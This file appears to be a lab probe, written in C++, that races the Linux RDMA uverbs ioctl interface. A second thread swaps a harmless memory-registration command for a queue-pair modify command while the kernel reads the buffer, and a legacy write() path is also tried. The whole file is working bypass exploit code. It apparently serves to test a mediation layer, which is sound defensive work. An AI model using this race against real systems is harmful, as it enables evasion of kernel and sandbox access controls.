// SPDX-License-Identifier: Apache-2.0
#include <rdma/ib_user_verbs.h>
#include <rdma/rdma_user_ioctl_cmds.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include <array>
#include <atomic>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <thread>

#include <nlohmann/json.hpp>

#include "common/net_types.h"
#include "tests/lab/probe/probe.h"

// Breaking out: a registration of memory is admitted, and while the kernel is on its way to read it
// again, a second thread makes a MODIFY_QP(RTR) of it that nobody has seen.
namespace qmasq::probe {
namespace {

constexpr std::uint32_t kRegMr = 9;
constexpr std::uint32_t kDeregMr = 13;
constexpr std::uint32_t kModifyQp = 26;
constexpr std::uint16_t kCoreIn = 0;
constexpr std::uint16_t kCoreOut = 1;
constexpr std::uint16_t kWriteCmd = 2;
constexpr std::uint32_t kNoHandle = 0xffffffff;

// ib_uverbs_ioctl_hdr without its flexible end.
struct Header {
  std::uint16_t length;
  std::uint16_t object_id;
  std::uint16_t method_id;
  std::uint16_t num_attrs;
  std::uint64_t reserved1;
  std::uint32_t driver_id;
  std::uint32_t reserved2;
};
static_assert(sizeof(Header) == sizeof(ib_uverbs_ioctl_hdr));

struct Call {
  Header header;
  ib_uverbs_attr command;
  ib_uverbs_attr in;
  ib_uverbs_attr out;
};

Call make_call(std::uint32_t command, const void* in, std::uint16_t size, void* out,
               std::uint16_t out_size) {
  Call call{};
  call.header.length = sizeof call;
  call.header.num_attrs = 3;
  call.header.driver_id = 14;  // rxe
  call.command = {kWriteCmd, 8, UVERBS_ATTR_F_MANDATORY, {}, {command}};
  call.in = {kCoreIn, size, UVERBS_ATTR_F_MANDATORY, {}, {reinterpret_cast<std::uint64_t>(in)}};
  call.out = {
      kCoreOut, out_size, UVERBS_ATTR_F_MANDATORY, {}, {reinterpret_cast<std::uint64_t>(out)}};
  return call;
}

ib_uverbs_modify_qp to_rtr(const ibv_qp& qp, const Gid& peer, int gid_index) {
  ib_uverbs_modify_qp out{};
  std::memcpy(out.dest.dgid, peer.raw.data(), peer.raw.size());
  out.dest.sgid_index = static_cast<std::uint8_t>(gid_index);
  out.dest.hop_limit = 64;
  out.dest.is_global = 1;
  out.dest.port_num = 1;
  out.qp_handle = qp.handle;
  out.attr_mask = IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN |
                  IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER;
  out.dest_qp_num = 17;
  out.qp_state = IBV_QPS_RTR;
  out.path_mtu = IBV_MTU_1024;
  out.max_dest_rd_atomic = 1;
  out.min_rnr_timer = 12;
  return out;
}

// A QP in INIT.
struct Victim {
  Context context;
  ibv_pd* pd = nullptr;
  ibv_cq* cq = nullptr;
  ibv_qp* qp = nullptr;

  bool make(const std::string& device) {
    context = open_device(device);
    if (!context) return false;
    pd = ibv_alloc_pd(context.get());
    cq = ibv_create_cq(context.get(), 8, nullptr, nullptr, 0);
    if (pd == nullptr || cq == nullptr) return false;
    ibv_qp_init_attr init{};
    init.send_cq = cq;
    init.recv_cq = cq;
    init.cap = {4, 4, 1, 1, 0};
    init.qp_type = IBV_QPT_RC;
    qp = ibv_create_qp(pd, &init);
    if (qp == nullptr) return false;
    ibv_qp_attr attr{};
    attr.qp_state = IBV_QPS_INIT;
    attr.port_num = 1;
    return ibv_modify_qp(qp, &attr,
                         IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS) == 0;
  }
};

std::string rts_of(ibv_qp* qp) {
  ibv_qp_attr attr{};
  attr.qp_state = IBV_QPS_RTS;
  attr.timeout = 14;
  attr.retry_cnt = 7;
  attr.rnr_retry = 7;
  attr.max_rd_atomic = 1;
  return errno_name(ibv_modify_qp(qp, &attr,
                                  IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT |
                                      IBV_QP_RNR_RETRY | IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC));
}

int tell(const nlohmann::ordered_json& out, int code) {
  std::printf("%s\n", out.dump().c_str());
  std::fflush(stdout);
  return code;
}

// Some nanoseconds a round.
void linger(unsigned rounds) {
  for (unsigned i = 0; i < rounds; ++i)
    __asm__ volatile("");
}

}  // namespace

int race(const RaceOptions& options) {
  nlohmann::ordered_json out;
  auto peer = parse_gid(options.peer_gid);
  Victim victim;
  if (!peer || !victim.make(options.device)) {
    out["error"] = peer ? errno_name(errno) : peer.error().message;
    return tell(out, 1);
  }
  const int fd = victim.context->cmd_fd;
  alignas(4096) static std::array<std::byte, 4096> memory{};
  ib_uverbs_reg_mr_resp answer{};
  ib_uverbs_reg_mr innocent{};
  innocent.start = reinterpret_cast<std::uint64_t>(memory.data());
  innocent.length = memory.size();
  innocent.hca_va = innocent.start;
  innocent.pd_handle = victim.pd->handle;
  innocent.access_flags = IBV_ACCESS_LOCAL_WRITE;
  const ib_uverbs_modify_qp evil = to_rtr(*victim.qp, *peer, options.gid_index);

  Call call = make_call(kRegMr, &innocent, sizeof innocent, &answer, sizeof answer);
  const Call as_register = call;
  const Call as_modify = make_call(kModifyQp, &evil, sizeof evil, &answer, sizeof answer);
  std::atomic<bool> stop{false};
  // In front of the kernel's eyes: no lock and no order on purpose.
  auto set = [&call](const Call& as) {
    auto* to = reinterpret_cast<volatile std::uint64_t*>(&call);
    std::array<std::uint64_t, sizeof(Call) / 8> words{};
    std::memcpy(words.data(), &as, sizeof as);
    for (std::size_t i = 0; i < words.size(); ++i)
      to[i] = words[i];
  };
  std::thread swapper([&] {
    for (unsigned i = 0; !stop; ++i) {
      set(as_modify);
      linger(i % 64 * 16);
      set(as_register);
      linger(i % 61 * 64);
    }
  });
  std::printf("{\"ready\":true}\n");
  std::fflush(stdout);
  int rounds = 0;
  bool hit = false;
  for (; rounds < options.rounds && !hit; ++rounds) {
    answer.mr_handle = kNoHandle;
    const int result = ::ioctl(fd, RDMA_VERBS_IOCTL, &call);
    if (result != 0) continue;
    if (answer.mr_handle == kNoHandle) {
      hit = true;  // it went well, and no memory was registered
      break;
    }
    ib_uverbs_dereg_mr gone{answer.mr_handle};
    Call dereg = make_call(kDeregMr, &gone, sizeof gone, nullptr, 0);
    dereg.header.num_attrs = 2;
    dereg.header.length = sizeof dereg - sizeof dereg.out;
    (void)::ioctl(fd, RDMA_VERBS_IOCTL, &dereg);
  }
  stop = true;
  swapper.join();
  out["rounds"] = rounds;
  out["hit"] = hit;
  if (hit) {
    out["RTS"] = rts_of(victim.qp);
    tell(out, 0);
    ::sleep(static_cast<unsigned>(options.hold_seconds));
    return 0;
  }
  return tell(out, 0);
}

int legacy(const RaceOptions& options) {
  nlohmann::ordered_json out;
  auto peer = parse_gid(options.peer_gid);
  Victim victim;
  if (!peer || !victim.make(options.device)) {
    out["error"] = peer ? errno_name(errno) : peer.error().message;
    return tell(out, 1);
  }
  std::printf("{\"ready\":true}\n");
  std::fflush(stdout);
  struct {
    ib_uverbs_cmd_hdr header;
    ib_uverbs_modify_qp command;
  } message{};
  static_assert(sizeof message == 120);
  message.header = {kModifyQp, sizeof message / 4, 0};
  message.command = to_rtr(*victim.qp, *peer, options.gid_index);
  const ssize_t written = ::write(victim.context->cmd_fd, &message, sizeof message);
  out["RTR"] = errno_name(written < 0 ? errno : 0);
  out["RTS"] = rts_of(victim.qp);
  tell(out, 0);
  ::sleep(static_cast<unsigned>(options.hold_seconds));
  return 0;
}

}  // namespace qmasq::probe
